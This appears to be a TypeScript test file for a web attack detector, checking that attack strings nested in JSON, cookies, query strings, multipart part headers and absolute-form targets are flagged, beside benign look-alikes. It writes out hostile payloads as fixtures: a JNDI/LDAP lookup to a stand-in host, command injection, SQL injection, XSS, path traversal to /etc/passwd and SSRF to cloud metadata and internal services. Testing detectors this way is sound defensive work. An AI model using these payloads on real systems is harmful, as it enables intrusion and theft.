/**
 * A value means the same wherever it arrives, second round (docs/detection.md "Request points" and
 * "Decoding", branch i18-points2): a JSON document sent as one string (a field of another JSON
 * document, a query parameter, a cookie) is read string by string as the application reads it once
 * parsed; a multipart part's own headers are read as the request's headers are; an absolute-form
 * request target is read for the host it asks the server to fetch. Each beside look-alikes.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import { decodeVariants } from '../../../node/analysis/attacks/decode/variants';
import { jsonStrings, mayBeJsonContainer } from '../../../node/analysis/attacks/decode/json-strings';
import { Budget, DEFAULT_ATTACK_LIMITS } from '../../../node/analysis/attacks/budget';
import { RELAXED, tx, type TxSpec } from './helpers';

const detector = new AttackDetector(RELAXED);
const hits = (spec: TxSpec): string[] =>
  detector.detect(tx(spec))?.hits.map((h) => `${h.class} ${JSON.stringify(h.point)}`) ?? [];

const HOST: [string, string] = ['Host', 'shop.example'];
const postJson = (doc: unknown): TxSpec => ({
  method: 'POST',
  target: '/submit',
  headers: [HOST, ['Content-Type', 'application/json']],
  body: Buffer.from(JSON.stringify(doc)),
});
/** `value` in a JSON document sent as the string field `data` of another (a client that serializes twice). */
const twice = (value: string): TxSpec => postJson({ user: { id: 7, data: JSON.stringify({ comment: value }) } });

test('a JSON document in a JSON string field is read string by string, as the same string sent alone', () => {
  for (const [value, cls] of [
    ['/etc/passwd', 'ptrav'],
    ['127.0.0.1', 'ssrf'],
    ['|id', 'rce'],
    ['%08x', 'overflow'],
    ['a);id', 'rce'],
  ]) {
    // The same value as the field itself is found (what the query finds).
    assert.ok(hits(postJson({ user: { id: 7, comment: value } })).includes(`${cls} ["json","user","comment"]`), value);
    assert.deepEqual(hits(twice(value)), [`${cls} ["json","user","data"]`], value);
  }
  // Twice: a document inside the document inside the field.
  const thrice = postJson({ data: JSON.stringify({ inner: JSON.stringify({ path: '/etc/passwd' }) }) });
  assert.deepEqual(hits(thrice), ['ptrav ["json","data"]']);
  // Look-alikes: documents that clients send as strings every day.
  for (const doc of [
    { theme: 'dark', ids: [1, 2, 3], note: 'gift wrap, please' },
    { url: 'https://partner.example/a?b=1', path: '/docs/getting-started' },
    { filter: { status: ['open', 'closed'] }, sort: '-created_at' },
    { query: 'select a colour', ip: '203.0.113.7' },
    { file: 'C:\\Users\\me\\report.pdf' },
  ])
    assert.deepEqual(hits(postJson({ state: JSON.stringify(doc) })), [], JSON.stringify(doc));
});

test('a JSON document in a query parameter or a cookie is read string by string', () => {
  const doc = encodeURIComponent(JSON.stringify({ cmd: 'x', args: ['|id'] }));
  assert.deepEqual(hits({ target: `/run?opts=${doc}` }), ['rce ["query","opts"]']);
  assert.deepEqual(hits({ target: '/', headers: [HOST, ['Cookie', `lang=en; prefs=${doc}`]] }), ['rce ["cookie","prefs"]']);
  // Look-alikes: a cart and a consent string.
  const cart = encodeURIComponent(JSON.stringify({ items: [{ sku: 'A-1', qty: 2 }], coupon: 'SPRING' }));
  assert.deepEqual(hits({ target: '/', headers: [HOST, ['Cookie', `cart=${cart}`]] }), []);
  assert.deepEqual(hits({ target: `/search?f=${encodeURIComponent('["red","blue"]')}` }), []);
});

test('the strings of a JSON document are forms of the value; other values are unchanged', () => {
  assert.ok(decodeVariants('{"a":"..%2F..%2Fetc%2Fpasswd"}', new Budget(DEFAULT_ATTACK_LIMITS)).includes('../../etc/passwd'));
  assert.deepEqual(decodeVariants('{not json}', new Budget(DEFAULT_ATTACK_LIMITS)), ['{not json}']);
  assert.deepEqual(jsonStrings('{"k":["v",1,{"n":"w"}]}'), ['k', 'v', 'n', 'w']);
  assert.equal(jsonStrings('[1,2'), null);
  assert.equal(mayBeJsonContainer('{}'), true);
  assert.equal(mayBeJsonContainer('[x]'), true);
  assert.equal(mayBeJsonContainer('{x'), false);
  assert.equal(mayBeJsonContainer('a{}'), false);
});

const part = (headers: string): TxSpec => ({
  method: 'POST',
  target: '/upload',
  headers: [HOST, ['Content-Type', 'multipart/form-data; boundary=b7']],
  body: Buffer.from(
    `--b7\r\nContent-Disposition: form-data; name="doc"; filename="a.txt"\r\n${headers}\r\n\r\nhello\r\n--b7--\r\n`,
  ),
});

test("a multipart part's own headers are read as the request's headers", () => {
  assert.deepEqual(hits(part('Content-Type: ${jndi:ldap://x.example/a}')), ['rce ["multipart","doc","Content-Type"]']);
  assert.deepEqual(hits(part("X-Note: ' or 1=1--")), ['sqli ["multipart","doc","X-Note"]']);
  assert.deepEqual(hits(part('X-Note: <script>alert(1)</script>')), ['xss ["multipart","doc","X-Note"]']);
  // Look-alikes: part headers as browsers and mail clients write them.
  for (const h of [
    'Content-Type: text/plain; charset=UTF-8',
    'Content-Type: image/png',
    'Content-Transfer-Encoding: binary',
    'Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    'Content-ID: <part1.123@example.com>',
  ])
    assert.deepEqual(hits(part(h)), [], h);
});

test('an absolute-form target is read for the host it asks the server to fetch', () => {
  const at = (target: string): string[] => hits({ target, headers: [HOST] });
  assert.deepEqual(at('http://127.0.0.1:6379/'), ['ssrf ["target"]']);
  assert.deepEqual(at('http://10.0.0.5:8080/admin'), ['ssrf ["target"]']);
  assert.deepEqual(at('gopher://localhost:25/_HELO'), ['ssrf ["target"]']);
  assert.ok(at('http://169.254.169.254/latest/meta-data/').includes('ssrf ["target"]'));
  // Look-alikes: a proxy's ordinary requests and origin-form targets.
  for (const t of ['http://shop.example/cart?id=7', 'https://www.example.com/a/b?c=1', 'http://shop.example', '/proxy?x=1'])
    assert.deepEqual(at(t), [], t);
});
